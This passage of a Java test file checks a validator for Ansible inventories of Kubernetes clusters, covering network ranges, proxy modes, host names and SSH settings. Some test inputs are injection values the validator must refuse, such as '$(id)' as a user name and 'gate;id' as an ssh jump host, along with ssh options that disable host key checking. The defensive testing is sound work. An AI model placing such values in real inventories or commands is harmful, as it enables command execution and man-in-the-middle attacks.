                                        "pandore.example.com may run 110 pods (kubelet_max_pods), and its /26 has 62 addresses"));
        assertThat(files().withVariables("kube_network_node_prefix: 26\nkubelet_max_pods: 62")
                        .spec())
                .isPresent();
    }

    @Test
    void aBalancerIsOutsideOfTheClustersNetworks() {
        assertThat(whats(files().withVariables("loadbalancer_apiserver: {address: 10.233.1.1}")
                        .errors()))
                .containsExactly(
                        "loadbalancer_apiserver.address 10.233.1.1 is an address of kube_service_addresses 10.233.0.0/18");
    }

    @Test
    void modeThatTheVersionDoesNotHaveIsRefused() {
        ClusterReading reading = files().withVariables("kube_version: v1.19.5\nkube_proxy_mode: nftables");

        assertThat(reading.errors()).singleElement().satisfies(problem -> {
            assertThat(problem.what()).isEqualTo("kube_proxy_mode is nftables");
            assertThat(problem.remedy()).isEqualTo("choose one of iptables, ipvs");
        });
    }

    @Test
    void deprecatedModeIsAWarning() {
        ClusterReading reading = files().withVariables("kube_proxy_mode: ipvs");

        assertThat(reading.spec()).isPresent();
        assertThat(whats(reading.warnings()))
                .containsExactly("kube_proxy_mode ipvs is deprecated in Kubernetes v1.36.3");
    }

    @Test
    void oneSettingOfTheClusterMustBeTheSameOnAllItsHosts() {
        ClusterReading reading = files().withHosts(
                        "erato.example.com: {ansible_host: 10.42.253.46}",
                        "erato.example.com: {ansible_host: 10.42.253.46, kube_version: v1.35.4}");

        assertThat(reading.errors()).singleElement().satisfies(problem -> {
            assertThat(problem.what()).isEqualTo("kube_version differs between hosts");
            assertThat(problem.why()).contains("v1.36.3", "v1.35.4");
        });
    }

    @Test
    void hostKeysAreCheckedWhateverTheInventorySays() {
        ClusterReading reading = files().withVariables(
                        "ansible_ssh_common_args: -o StrictHostKeyChecking=no -oUserKnownHostsFile=/dev/null -J gate");

        assertThat(whats(reading.warnings())).containsExactly("the ssh arguments would disable host key checking");
        assertThat(reading.warnings())
                .singleElement()
                .satisfies(
                        problem -> assertThat(problem.remedy())
                                .isEqualTo(
                                        "remove from ansible_ssh_common_args: -o StrictHostKeyChecking, -o UserKnownHostsFile"));
        assertThat(reading.spec().orElseThrow().hosts())
                .allSatisfy(host -> assertThat(host.target().options()).containsExactly("-J", "gate"));
    }

    @Test
    void optionsOfSshThatAreNotKnownToBeHarmlessAreRefusedWithTheirLine() {
        ClusterReading reading =
                files().withVariables("ansible_ssh_extra_args: -Co HostKeyAlias=* -J 'gate;id' -E /tmp/log pi1");

        assertThat(whats(reading.errors()))
                .containsExactly(
                        "the ssh argument '-o HostKeyAlias=*' is not a single host name, and its key would be kept for other hosts too",
                        "the ssh argument '-J gate;id' is not a comma-separated list of hosts, and a shell would interpret it",
                        "the ssh argument '-E /tmp/log' is not among the ssh options known to be safe in an inventory",
                        "the ssh argument 'pi1' is not an option: ssh would read it as the host, or as the command to run there");
        assertThat(reading.errors())
                .allSatisfy(problem -> assertThat(problem.position()).isNotNull());
    }

    @ParameterizedTest
    @CsvSource({
        "/tmp/elsewhere/key, false",
        "{{ inventory_dir }}/../key, false",
        "{{ inventory_dir }}/secrets/key, true",
        "/srv/secrets/key, true"
    })
    void passwordsAreMadeAmongTheInventorysSecretsOnly(String file, boolean fits) {
        String template =
                "kubeadm_certificate_key: \"{{ lookup('password', '%s length=64 chars=hexdigits') | lower }}\""
                        .formatted(file.replace("{{ inventory_dir }}", "' ~ inventory_dir ~ '"));

        ClusterReading reading = files().withVariables(template + "\ncredentials_dir: /srv/secrets");

        assertThat(reading.spec().isPresent()).isEqualTo(fits);
        if (!fits) {
            assertThat(whats(reading.errors()))
                    .singleElement()
                    .asString()
                    .startsWith("lookup('password', …) would create /");
        }
    }

    @Test
    void namesForSshAreNothingThatAShellWouldRun() {
        ClusterReading reading = files().withVariables(
                        "ansible_user: $(id)\naccess_ip: 10.0.0.1\nip: 10.0.0.1\nansible_host: 10.0.0.1;id");

        assertThat(whats(reading.errors())).contains("ansible_user is '$(id)'");
        assertThat(whats(files().withVariables("ansible_user: DOMAIN\\pi").errors()))
                .isEmpty();
    }

    @Test
    void hostsWithoutARoleAreAWarning() {
        ClusterReading reading = files().withHosts(
                        "erato.example.com: {ansible_host: 10.42.253.46}",
                        "erato.example.com: {ansible_host: 10.42.253.46}\n    urania.example.com: {ansible_host: 10.42.253.70}");

        assertThat(whats(reading.warnings())).containsExactly("urania.example.com has no role");
    }

    @Test
    void aMistypedGroupIsTold() {
        String hosts = RackFiles.HOSTS.replace("kube-node:", "kube_nodes:");

        assertThat(files().with(hosts, RackFiles.VARIABLES).warnings()).anySatisfy(problem -> {
            assertThat(problem.what()).isEqualTo("group 'kube_nodes' means nothing");
            assertThat(problem.remedy()).isEqualTo("did you mean 'kube_node'?");
        });
        // A group of one's own beside the one that it is like.
        assertThat(whats(files().withHosts(
                                "loadbalancer: {hosts",
                                "etcds: {hosts: {erato.example.com: }}\n    loadbalancer: {hosts")
                        .warnings()))
                .isEmpty();
    }

    @Test
    void namesOfHostsMustBeNamesOfNodes() {
        ClusterReading reading = files().with(RackFiles.HOSTS.replace("erato", "Erato_1"), RackFiles.VARIABLES);

        assertThat(whats(reading.errors())).containsExactly("'Erato_1.example.com' is not a valid node name");
    }

    @ParameterizedTest(name = "a host in group {0} may have {1} characters")
    @CsvSource({"kube-node, 63", "etcd, 64"})
    void namesAreNoLongerThanWhatIsMadeOfThem(String group, int longest) {
        assertThat(whats(named(group, longest).errors())).isEmpty();
        assertThat(named(group, longest + 1).errors()).singleElement().satisfies(problem -> {
            assertThat(problem.what())
                    .contains("has " + (longest + 1) + " characters, but at most " + longest + " are allowed");
            assertThat(problem.position()).isNotNull();
        });
    }

    /** The rack with one more host, whose name has so many characters. */
    private ClusterReading named(String group, int characters) {
        String domain = ".example.com";
        String name = "n".repeat(characters - domain.length()) + domain;
        String members = "{hosts: {pandore.example.com: , hellenes.example.com: , epimethee.example.com: }}";
        String hosts = group.equals("etcd")
                ? RackFiles.HOSTS
                        .replace("kube-master: " + members, "kube-master: {hosts: {pandore.example.com: }}")
                        .replace("epimethee.example.com", name)
                : RackFiles.HOSTS.replace("erato.example.com", name);
        return files().with(hosts, RackFiles.VARIABLES);
    }

    private static List<String> whats(List<Problem> problems) {
        return problems.stream().map(Problem::what).toList();
    }

    private RackFiles files() {
        return new RackFiles(directory);
    }
}
